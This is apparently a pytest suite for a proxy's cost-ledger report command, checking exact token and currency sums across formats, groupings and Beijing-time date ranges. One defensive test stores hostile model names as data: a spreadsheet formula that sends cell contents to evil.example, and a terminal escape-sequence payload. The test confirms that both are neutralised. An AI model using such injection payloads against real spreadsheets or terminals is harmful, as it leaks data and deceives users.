"""``report``: exact sums from a real SQLite ledger, in every format, grouping and range.

The ledger is written by the real `SQLiteLedger` from records priced by the real engine with the
shipped book. Expected amounts are worked out by hand from the book's rates (per 1M tokens) in
the comments, and compared as exact decimal text.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from proxy.ledger.store import SQLiteLedger
from proxy.pricing import PriceBook
from tests.conftest import ROOT, SHIPPED_BOOK
from tests.support.ledger_rows import BEIJING, FIGURES, record, report_json, run, write_config


def assert_total_is_sum(report: dict[str, object]) -> None:
    """The total equals the rows' sum exactly: ints for counts, Decimal for money."""
    rows = report["rows"]
    total = report["total"]
    assert isinstance(rows, list) and isinstance(total, dict)
    for name, value in total.items():
        if name in ("cost", "cache_savings"):
            for currency, amount in value.items():
                assert Decimal(amount) == sum(Decimal(r[name][currency]) for r in rows)
        else:
            assert value == sum(r[name] for r in rows)


def test_report_json_by_team_and_model(
    capsys: pytest.CaptureFixture[str], ledger_config: Path
) -> None:
    report = report_json(capsys, ledger_config)
    assert report == {
        "since": None,
        "until": None,
        "timezone": "Asia/Shanghai",
        "team": None,
        "by": ["team", "model"],
        "currencies": ["CNY", "USD"],
        "rows": [
            # r1, r2 and the in-flight r7 (a billable request, unpriced, no tokens). Cache
            # savings: r1's 10,000 hits at 1 - 0.02 CNY | 0.15 - 0.003 USD per 1M.
            {
                "team": "alpha",
                "model": "deepseek-flash",
                "requests": 3,
                "billable": 3,
                "cache_hit": 10_000,
                "cache_miss": 3_000,
                "output": 1_500,
                "reasoning": 100,
                "unpriced": 1,
                "estimated": 0,
                "cost": {"CNY": "0.0192", "USD": "0.00288"},
                "cache_savings": {"CNY": "0.0098", "USD": "0.00147"},
            },
            {
                "team": "beta",
                "model": "deepseek-next",
                "requests": 1,
                "billable": 1,
                "cache_hit": 0,
                "cache_miss": 100,
                "output": 10,
                "reasoning": 0,
                "unpriced": 1,
                "estimated": 0,
                "cost": {"CNY": "0", "USD": "0"},
                "cache_savings": {"CNY": "0", "USD": "0"},
            },
            # r3, r4 (estimated) and r6 (usage none: DeepSeek never received it, so neither
            # billable nor unpriced). Savings: r3's 1,000 hits at 9 - 0.3 | 1.32 - 0.044.
            {
                "team": "beta",
                "model": "deepseek-v4-pro",
                "requests": 3,
                "billable": 2,
                "cache_hit": 1_000,
                "cache_miss": 1_500,
                "output": 120,
                "reasoning": 0,
                "unpriced": 0,
                "estimated": 1,
                "cost": {"CNY": "0.01704", "USD": "0.0024992"},
                "cache_savings": {"CNY": "0.0087", "USD": "0.001276"},
            },
        ],
        "total": {
            "requests": 7,
            "billable": 6,
            "cache_hit": 11_000,
            "cache_miss": 4_600,
            "output": 1_630,
            "reasoning": 100,
            "unpriced": 2,
            "estimated": 1,
            "cost": {"CNY": "0.03624", "USD": "0.0053792"},
            "cache_savings": {"CNY": "0.0185", "USD": "0.002746"},
        },
    }
    assert_total_is_sum(report)


def test_report_table(capsys: pytest.CaptureFixture[str], ledger_config: Path) -> None:
    code, out, _ = run(capsys, "report", "--config", str(ledger_config))
    assert code == 0
    assert out.splitlines() == [
        "Calls started from the first row until the last row (exclusive); "
        "billing timezone Asia/Shanghai",
        "team   model            requests  billable  cache_hit  cache_miss  output  reasoning"
        "  unpriced  estimated      CNY        USD",
        "alpha  deepseek-flash          3         3      10000        3000    1500        100"
        "         1          0   0.0192    0.00288",
        "beta   deepseek-next           1         1          0         100      10          0"
        "         1          0        0          0",
        "beta   deepseek-v4-pro         3         2       1000        1500     120          0"
        "         0          1  0.01704  0.0024992",
        "TOTAL                          7         6      11000        4600    1630        100"
        "         2          1  0.03624  0.0053792",
    ]


CSV_HEADER = ["model", *FIGURES, "CNY", "USD"]
CSV_ROWS = [
    ["deepseek-flash", "3", "3", "10000", "3000", "1500", "100", "1", "0", "0.0192", "0.00288"],
    ["deepseek-next", "1", "1", "0", "100", "10", "0", "1", "0", "0", "0"],
    ["deepseek-v4-pro", "3", "2", "1000", "1500", "120", "0", "0", "1", "0.01704", "0.0024992"],
]


def test_report_csv_is_a_header_and_rows_only(
    capsys: pytest.CaptureFixture[str], ledger_config: Path
) -> None:
    """No caption and no TOTAL row: a pivot table over the file would count a total row as one
    more group (issue 16), so every row is a group."""
    code, out, _ = run(
        capsys, "report", "--config", str(ledger_config), "--format", "csv", "--by", "model"
    )
    assert code == 0
    assert list(csv.reader(io.StringIO(out))) == [CSV_HEADER, *CSV_ROWS]


def test_report_csv_total_row_when_asked_is_the_exact_sum(
    capsys: pytest.CaptureFixture[str], ledger_config: Path
) -> None:
    code, out, _ = run(
        capsys,
        "report",
        "--config",
        str(ledger_config),
        "--format",
        "csv",
        "--by",
        "model",
        "--total",
    )
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [
        CSV_HEADER,
        *CSV_ROWS,
        ["TOTAL", "7", "6", "11000", "4600", "1630", "100", "2", "1", "0.03624", "0.0053792"],
    ]
    body, total = rows[1:-1], rows[-1]
    for column in range(1, 9):
        assert int(total[column]) == sum(int(r[column]) for r in body)
    for column in (9, 10):
        assert Decimal(total[column]) == sum(Decimal(r[column]) for r in body)


def test_by_day_splits_at_beijing_midnight(
    capsys: pytest.CaptureFixture[str], ledger_config: Path
) -> None:
    """15:59:59Z and 16:00:00Z on 2026-11-01 are 23:59:59 and 00:00 in Beijing."""
    report = report_json(capsys, ledger_config, "--by", "day")
    assert report["rows"] == [
        {
            "day": "2026-11-01",
            "requests": 1,
            "billable": 1,
            "cache_hit": 10_000,
            "cache_miss": 2_000,
            "output": 500,
            "reasoning": 100,
            "unpriced": 0,
            "estimated": 0,
            "cost": {"CNY": "0.0042", "USD": "0.00063"},
            "cache_savings": {"CNY": "0.0098", "USD": "0.00147"},
        },
        {
            "day": "2026-11-02",
            "requests": 6,
            "billable": 5,
            "cache_hit": 1_000,
            "cache_miss": 2_600,
            "output": 1_130,
            "reasoning": 0,
            "unpriced": 2,
            "estimated": 1,
            "cost": {"CNY": "0.03204", "USD": "0.0047492"},
            "cache_savings": {"CNY": "0.0087", "USD": "0.001276"},
        },
    ]
    assert_total_is_sum(report)


def test_by_team_model_and_day_sorted_by_keys(
    capsys: pytest.CaptureFixture[str], ledger_config: Path
) -> None:
    report = report_json(capsys, ledger_config, "--by", "day,team,model")
    rows = report["rows"]
    assert isinstance(rows, list)
    assert [(r["day"], r["team"], r["model"], r["requests"]) for r in rows] == [
        ("2026-11-01", "alpha", "deepseek-flash", 1),
        ("2026-11-02", "alpha", "deepseek-flash", 2),
        ("2026-11-02", "beta", "deepseek-next", 1),
        ("2026-11-02", "beta", "deepseek-v4-pro", 3),
    ]
    assert_total_is_sum(report)


def test_since_date_is_beijing_midnight_and_until_is_exclusive(
    capsys: pytest.CaptureFixture[str], ledger_config: Path
) -> None:
    """--since 2026-11-02 is 2026-11-01T16:00Z: r1 is out, r2 in; r4 starts at --until: out.
    Both bounds are shown in the billing timezone, as finance reads them."""
    report = report_json(
        capsys,
        ledger_config,
        "--since",
        "2026-11-02",
        "--until",
        "2026-11-02T03:00:00Z",
        "--by",
        "team",
    )
    assert report["since"] == "2026-11-02T00:00:00+08:00"
    assert report["until"] == "2026-11-02T11:00:00+08:00"
    assert report["timezone"] == "Asia/Shanghai"
    assert report["rows"] == [
        {
            "team": "alpha",
            "requests": 1,
            "billable": 1,
            "cache_hit": 0,
            "cache_miss": 1_000,
            "output": 1_000,
            "reasoning": 0,
            "unpriced": 0,
            "estimated": 0,
            "cost": {"CNY": "0.015", "USD": "0.00225"},
            "cache_savings": {"CNY": "0", "USD": "0"},
        },
        {
            "team": "beta",
            "requests": 1,
            "billable": 1,
            "cache_hit": 1_000,
            "cache_miss": 1_000,
            "output": 100,
            "reasoning": 0,
            "unpriced": 0,
            "estimated": 0,
            "cost": {"CNY": "0.012", "USD": "0.00176"},
            "cache_savings": {"CNY": "0.0087", "USD": "0.001276"},
        },
    ]
    assert report["total"] == {
        "requests": 2,
        "billable": 2,
        "cache_hit": 1_000,
        "cache_miss": 2_000,
        "output": 1_100,
        "reasoning": 0,
        "unpriced": 0,
        "estimated": 0,
        "cost": {"CNY": "0.027", "USD": "0.00401"},
        "cache_savings": {"CNY": "0.0087", "USD": "0.001276"},
    }


@pytest.mark.parametrize(
    ("bounds", "requests"),
    [
        (("--until", "2026-11-01T16:00:00Z"), 1),  # r1 only
        (("--since", "2026-11-01T16:00:00Z"), 6),  # everything but r1
        (("--since", "2026-11-02T00:00:00+08:00", "--until", "2026-11-02T00:00:01+08:00"), 1),
        (("--since", "2026-11-03"), 0),
    ],
)
def test_range_bounds(
    capsys: pytest.CaptureFixture[str], ledger_config: Path, bounds: tuple[str, ...], requests: int
) -> None:
    report = report_json(capsys, ledger_config, *bounds)
    total = report["total"]
    assert isinstance(total, dict)
    assert total["requests"] == requests


def test_one_currency(capsys: pytest.CaptureFixture[str], ledger_config: Path) -> None:
    report = report_json(capsys, ledger_config, "--currency", "usd", "--by", "team")
    assert report["currencies"] == ["USD"]
    rows = report["rows"]
    assert isinstance(rows, list)
    assert [r["cost"] for r in rows] == [{"USD": "0.00288"}, {"USD": "0.0024992"}]
    assert report["total"] == {
        "requests": 7,
        "billable": 6,
        "cache_hit": 11_000,
        "cache_miss": 4_600,
        "output": 1_630,
        "reasoning": 100,
        "unpriced": 2,
        "estimated": 1,
        "cost": {"USD": "0.0053792"},
        "cache_savings": {"USD": "0.002746"},
    }


def test_unknown_currency_is_refused(
    capsys: pytest.CaptureFixture[str], ledger_config: Path
) -> None:
    code, out, err = run(capsys, "report", "--config", str(ledger_config), "--currency", "EUR")
    assert (code, out) == (2, "")
    assert err == "unknown currency 'EUR'; the price book and ledger have CNY, USD\n"


def test_missing_ledger_exits_1_and_creates_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    config = write_config(tmp_path, SHIPPED_BOOK.read_text(encoding="utf-8"))
    code, out, err = run(capsys, "report", "--config", str(config))
    assert (code, out) == (1, "")
    assert err == f"no ledger at {tmp_path / 'ledger.sqlite3'}\n"
    assert not (tmp_path / "ledger.sqlite3").exists()


@pytest.mark.parametrize(
    "argv",
    [
        ("--by", "team,fortnight"),
        ("--by", "Team"),
        ("--by", "team,team"),
        ("--by", ""),
        ("--since", "2026-11-01T00:00:00"),
        ("--until", "yesterday"),
    ],
)
def test_bad_arguments_exit_2(
    capsys: pytest.CaptureFixture[str], ledger_config: Path, argv: tuple[str, ...]
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        run(capsys, "report", "--config", str(ledger_config), *argv)
    assert exit_info.value.code == 2


def test_empty_range_is_refused(capsys: pytest.CaptureFixture[str], ledger_config: Path) -> None:
    code, _, err = run(
        capsys,
        "report",
        "--config",
        str(ledger_config),
        "--since",
        "2026-11-02",
        "--until",
        "2026-11-02",
    )
    assert code == 2
    assert err.startswith("--since (2026-11-02T00:00:00+08:00) must be before --until")


def test_report_subprocess(ledger_config: Path) -> None:
    """``python -m proxy report`` in a real interpreter, through `proxy.cli`'s registration."""

    def proxy(*argv: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "proxy", *argv],
            cwd=ROOT,
            capture_output=True,
            text=True,
            check=False,
        )

    result = proxy("report", "--config", str(ledger_config), "--format", "json", "--by", "team")
    assert result.returncode == 0, result.stderr
    total = json.loads(result.stdout)["total"]
    assert total["cost"] == {"CNY": "0.03624", "USD": "0.0053792"}
    assert total["requests"] == 7


def test_hostile_model_names_stay_text(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, book: PriceBook
) -> None:
    """A client chooses the model name it sends: in CSV it must not become a spreadsheet
    formula, in the table it must not drive the terminal, in JSON it stays exactly itself."""
    path = write_config(tmp_path, SHIPPED_BOOK.read_text(encoding="utf-8"))
    ledger = SQLiteLedger(tmp_path / "ledger.sqlite3", BEIJING)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    escape = "deepseek-flash\x1b]0;owned\x07\x1b[2J"  # from a ledger older than the 400
    ledger.write(
        [],
        [
            record(book, "h1", "alpha", formula, "2026-11-02T02:00:00+00:00", miss=1),
            record(book, "h2", "alpha", escape, "2026-11-02T02:00:00+00:00", miss=1),
            record(book, "h3", "alpha", "-1+2", "2026-11-02T02:00:00+00:00", miss=1),
        ],
    )
    ledger.close()
    code, out, _ = run(capsys, "report", "--config", str(path), "--format", "csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    models = {row[1] for row in rows[1:]}
    assert models == {"'" + formula, "'-1+2", escape}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row[:2])
    code, out, _ = run(capsys, "report", "--config", str(path), "--format", "table")
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out
    assert "deepseek-flash\\x1b]0;owned\\x07\\x1b[2J" in out
    code, out, _ = run(capsys, "report", "--config", str(path), "--format", "json")
    assert {row["model"] for row in json.loads(out)["rows"]} == {formula, escape, "-1+2"}
    assert "\x1b" not in out  # JSON escapes control characters itself


@pytest.mark.parametrize("command", ["report", "statement"])
def test_a_price_book_with_problems_exits_1(
    capsys: pytest.CaptureFixture[str], ledger_config: Path, command: str
) -> None:
    """The columns are the book's currencies: a book that cannot be read stops the command,
    naming the file and why, as it stops the proxy."""
    (ledger_config.parent / "book.yaml").write_text("book: [\n", encoding="utf-8")
    extra = ("--team", "alpha", "--month", "2026-11") if command == "statement" else ()
    code, out, err = run(capsys, command, "--config", str(ledger_config), *extra)
    assert (code, out) == (1, "")
    assert err.startswith(str(ledger_config.parent / "book.yaml"))
